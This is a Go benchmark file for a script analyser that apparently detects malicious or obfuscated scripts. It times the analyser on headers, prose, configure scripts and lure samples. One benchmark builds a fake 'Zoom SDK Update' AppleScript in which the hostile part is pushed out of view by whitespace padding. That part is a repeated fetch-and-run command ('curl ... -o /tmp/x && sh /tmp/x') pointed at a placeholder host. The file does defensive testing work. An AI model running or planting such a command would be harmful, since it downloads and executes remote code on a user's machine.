package script

import (
	"strings"
	"syscall"
	"testing"
)

// measure runs Analyse and reports the processor time, which does not depend
// on what else the machine does.
func measure(b *testing.B, name string, text []byte) {
	b.Helper()
	Analyse(name, text) // builds the tables
	b.SetBytes(int64(len(text)))
	before := cpuTime(b)
	for b.Loop() {
		Analyse(name, text)
	}
	b.ReportMetric(float64(cpuTime(b)-before)/float64(b.N), "cpu-ns/op")
}

func cpuTime(b *testing.B) int64 {
	b.Helper()
	var u syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &u); err != nil {
		b.Fatal(err)
	}
	return u.Utime.Nano() + u.Stime.Nano()
}

func BenchmarkHeader28K(b *testing.B) {
	text := []byte("/* Copyright. */\n#ifndef X_H\n#define X_H\n" + strings.Repeat("int do_something(struct thing *t, const char *name);\n", 540))
	measure(b, "x.h", text)
}

func BenchmarkProse(b *testing.B) {
	text := []byte(strings.Repeat("The quick brown fox jumps over the lazy dog, and sets the table for dinner.\n", 14000))
	measure(b, "notes", text)
}

func BenchmarkLure10K(b *testing.B) {
	text := []byte(zoomBanner + strings.Repeat("\n", 5000) + strings.Repeat("do shell script "+singles("curl -s https://a.invalid/x -o /tmp/x && sh /tmp/x")+"\n", 20))
	measure(b, "Zoom SDK Update.scpt", text)
}

func BenchmarkShell500K(b *testing.B) {
	text := []byte("#!/bin/sh\n" + strings.Repeat("if test \"x$ac_cv_prog_cc_g\" = xyes; then :\n  printf '%s\\n' \"$as_me:${as_lineno-$LINENO}: checking for $ac_word\" >&5\n  ac_save_CFLAGS=$CFLAGS\nelse\n  eval \"$as_tr_sh=no\"\nfi\ncat >conftest.$ac_ext <<_ACEOF\nint main (void) { return 0; }\n_ACEOF\n", 1900))
	measure(b, "configure", text)
}

func BenchmarkComputed10K(b *testing.B) {
	lure := hidingsText("loop over codes") + hidingsText("function that decodes") + hidingsText("array with an offset")
	text := []byte(lure + strings.Repeat("var x = f(String.fromCharCode(97, 98, 99) + 'a' + 'b', y[1]);\n", (10<<10-len(lure))/62))
	measure(b, "a.js", text)
}

func hidingsText(name string) string {
	for _, h := range hidings {
		if h.name == name {
			return h.text
		}
	}
	return ""
}
